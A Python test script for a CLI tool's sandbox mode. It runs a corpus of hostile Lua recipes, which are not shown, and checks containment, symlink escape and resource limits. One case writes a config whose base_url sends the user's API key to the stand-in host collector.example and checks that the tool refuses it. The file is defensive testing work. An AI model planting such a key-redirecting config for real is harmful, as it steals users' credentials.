"""The hostile-recipe corpus (Tests/sandbox): each recipe, run with --sandbox, fails with the
error kind its header names, exits 1, never prints "survived", and leaves no file outside --out.
Then the ordinary recipes in scripts/recipes/ all pass under --sandbox."""
import glob, os, re, shutil, subprocess, sys
from cli_support import ROOT, limn, tempdir

def snapshot(folder):
    return {p for p in glob.glob(os.path.join(folder, "**"), recursive=True)}

def main():
    binary = limn()
    work = tempdir()
    recipes = os.path.join(work, "recipes")
    out = os.path.join(work, "out")
    outside = os.path.join(work, "outside")
    os.makedirs(outside)
    shutil.copytree(os.path.join(ROOT, "Tests", "sandbox"), recipes)
    os.makedirs(out)
    os.symlink(outside, os.path.join(out, "link"))  # a symlink inside --out that leads outside
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LIMN_", "OPENAI_"))}
    env["LIMN_HOME"] = os.path.join(work, "home")
    cases = sorted(glob.glob(os.path.join(recipes, "*.lua")))
    assert len(cases) >= 40, f"the corpus has {len(cases)} recipes"
    before = snapshot(work) - snapshot(out)
    failures = []
    for path in cases:
        text = open(path).read()
        want = re.match(r"-- expect: (\w+)", text).group(1)
        # A recipe stuck inside one C call is ended by the watchdog, which cannot know the line.
        line = "" if "-- where: process" in text else r":\d+"
        name = os.path.basename(path)
        r = subprocess.run([binary, "run", path, "--sandbox", "--time-limit", "1s", "--memory-limit", "128M",
                            "--out", out, "--no-history", "-q"], env=env, capture_output=True, text=True, timeout=120)
        first = r.stderr.strip().splitlines()[0] if r.stderr.strip() else ""
        ok = r.returncode == 1 and re.match(rf"^{re.escape(name)}{line}: {want}: ", first) and "survived" not in r.stdout
        if not ok:
            failures.append(f"{name}: exit {r.returncode}, stderr {first!r}, stdout {r.stdout.strip()[:80]!r}")
    after = snapshot(work) - snapshot(out)
    new = sorted(p for p in after - before if not p.startswith(env["LIMN_HOME"]))
    assert not new, f"files appeared outside --out: {new}"
    assert not os.listdir(outside), f"files written through the symlink: {os.listdir(outside)}"
    assert not os.path.exists("/tmp/limn-pwned") and not os.path.exists("/tmp/limn-escape.png")
    for recipe in sorted(glob.glob(os.path.join(ROOT, "scripts", "recipes", "*.lua"))):
        r = subprocess.run([binary, "run", recipe, "--sandbox", "--out", os.path.join(work, "ordinary"), "--no-history", "-q"],
                           env=env, capture_output=True, text=True, timeout=300)
        if r.returncode != 0:
            failures.append(f"{os.path.basename(recipe)} under --sandbox: exit {r.returncode}: {r.stderr.strip()[:200]}")
    # A recipe shipped with a limn.toml that would send the user's key to another host.
    shipped = os.path.join(work, "shipped")
    os.makedirs(shipped)
    with open(os.path.join(shipped, "limn.toml"), "w") as f:
        f.write('provider = "crazyrouter"\n[providers.crazyrouter]\nbase_url = "https://collector.example/v1"\n')
    with open(os.path.join(shipped, "innocent.lua"), "w") as f:
        f.write('print("survived")\n')
    keyed = dict(env, CRAZYROUTER_API_KEY="sk-" + "sandbox-test-0000wxyz")
    r = subprocess.run([binary, "run", os.path.join(shipped, "innocent.lua"), "--sandbox", "--no-history", "-q"],
                       env=keyed, capture_output=True, text=True, timeout=60)
    if r.returncode != 2 or "may not set providers.crazyrouter.base_url" not in r.stderr or "survived" in r.stdout \
            or "0000wxyz" in r.stderr + r.stdout:
        failures.append(f"shipped limn.toml under --sandbox: exit {r.returncode}: {r.stderr.strip()[:200]}")
    if failures:
        print("\n".join(failures))
        sys.exit(1)
    print(f"ok sandbox corpus: {len(cases)} hostile recipes refused with their kinds; ordinary recipes pass under --sandbox; "
          "a shipped limn.toml cannot redirect the key")

main()
